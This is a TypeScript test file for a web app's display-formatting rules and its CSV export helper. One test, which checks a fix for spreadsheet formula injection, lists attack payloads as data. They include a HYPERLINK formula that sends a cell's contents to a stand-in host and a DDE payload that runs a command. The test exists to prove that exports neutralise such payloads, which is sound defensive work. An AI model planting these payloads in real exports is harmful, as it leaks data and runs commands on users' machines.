import { parse } from 'csv-parse/sync'
import { describe, expect, it, vi } from 'vitest'
import { display, formatDate, initials, messageTime, truncate } from '../../frontend/lib/format/rules'
import { exportFileName, toCsv, toCsvRows, type ExportColumn } from '../../lib/csv/tableExport'

describe('display rules of spec sections 5 and 9', () => {
  it('shows "-" for null, NULL, blank and empty, and keeps "0"', () => {
    for (const empty of [null, undefined, '', '   ', 'NULL', ' NULL ']) expect(display(empty)).toBe('-')
    expect(display('null value')).toBe('null value')
    expect(display('0')).toBe('0')
    expect(display(0)).toBe('0')
    expect(display('Ana')).toBe('Ana')
  })

  it('gives initials only for two words or more: first and last, upper case', () => {
    expect(initials('maria da silva')).toBe('MS')
    expect(initials('  Ana   Lima ')).toBe('AL')
    expect(initials('Ana')).toBe('')
    expect(initials('')).toBe('')
    expect(initials(null)).toBe('')
  })

  it('cuts longer text to the length plus "..." and logs a non-string', () => {
    expect(truncate('abcdefghij', 4)).toBe('abcd...')
    expect(truncate('abcd', 4)).toBe('abcd')
    const log = vi.spyOn(console, 'error').mockImplementation(() => undefined)
    expect(truncate(42, 4)).toBe('')
    expect(log).toHaveBeenCalledOnce()
    log.mockRestore()
  })

  it('shows DD/MM/YYYY, calendar dates without a time-zone shift', () => {
    expect(formatDate('2026-01-01')).toBe('01/01/2026')
    expect(formatDate('2026-01-01T02:00:00.000Z')).toBe('31/12/2025') // 23:00 in São Paulo
    expect(formatDate(null)).toBe('-')
    expect(formatDate('not a date')).toBe('-')
  })

  it('shows hh:mm under 24 hours and "d de Month" in Portuguese after', () => {
    const now = new Date('2026-03-10T15:00:00.000Z')
    expect(messageTime('2026-03-10T12:05:00.000Z', now)).toBe('09:05')
    expect(messageTime('2026-03-08T15:00:00.000Z', now)).toBe('8 de março')
  })
})

describe('table export helper', () => {
  type Row = { name: string | null; when: string; tags: string[] }
  const columns: ExportColumn<Row>[] = [
    { label: 'Nome', field: 'name', format: display },
    { label: 'Data', field: 'when', format: (v) => formatDate(v as string) },
    { label: 'Etiquetas', field: (row) => row.tags.join(', ') },
  ]
  const rows: Row[] = [
    { name: 'Ação; "aspas"', when: '2026-02-03', tags: ['a', 'b'] },
    { name: null, when: '2026-12-31', tags: [] },
  ]

  it('writes semicolon-separated UTF-8 with a BOM, a header of labels, fields by name or function, formats applied', () => {
    const csv = toCsv(rows, columns)
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const parsed = parse(csv.slice(1), { delimiter: ';' }) as string[][]
    expect(parsed).toEqual([
      ['Nome', 'Data', 'Etiquetas'],
      ['Ação; "aspas"', '03/02/2026', 'a, b'],
      ['-', '31/12/2026', ''],
    ])
  })

  it('continues a streamed file without repeating the header', () => {
    expect(toCsvRows([rows[1]!], columns, { header: false })).toBe('-;31/12/2026;\r\n')
    expect(toCsvRows([], columns)).toBe('Nome;Data;Etiquetas\r\n')
  })

  it('writes a text that a spreadsheet would run as a formula behind an apostrophe, numbers as they are (issue #29)', () => {
    type Lead = { name: string; phone: string; visits: number }
    const leadColumns: ExportColumn<Lead>[] = [
      { label: 'Nome', field: 'name' },
      { label: 'Telefone', field: 'phone' },
      { label: 'Visitas', field: 'visits' },
    ]
    const attacks = ['=HYPERLINK("http://x.example/?"&A1,"ver")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']
    const csv = toCsvRows(
      attacks.map((name) => ({ name, phone: '+55 11 99999-0000', visits: -3 })),
      leadColumns,
      { header: false },
    )
    const parsed = csv.split('\r\n').filter(Boolean)
    expect(parsed).toHaveLength(attacks.length)
    for (const line of parsed) {
      expect(line).toMatch(/^"?'/) // the name: inert text
      expect(line).toContain(";'+55 11 99999-0000;-3") // a telephone is text too; a number stays a number
    }
    expect(toCsvRows([{ name: 'Ana', phone: '11 9999', visits: 2 }], leadColumns, { header: false })).toBe('Ana;11 9999;2\r\n')
  })

  it('names the file base name plus local date and time', () => {
    expect(exportFileName('leads', new Date(2026, 10, 22, 9, 5, 7))).toBe('leads-2026-11-22-090507.csv')
  })
})
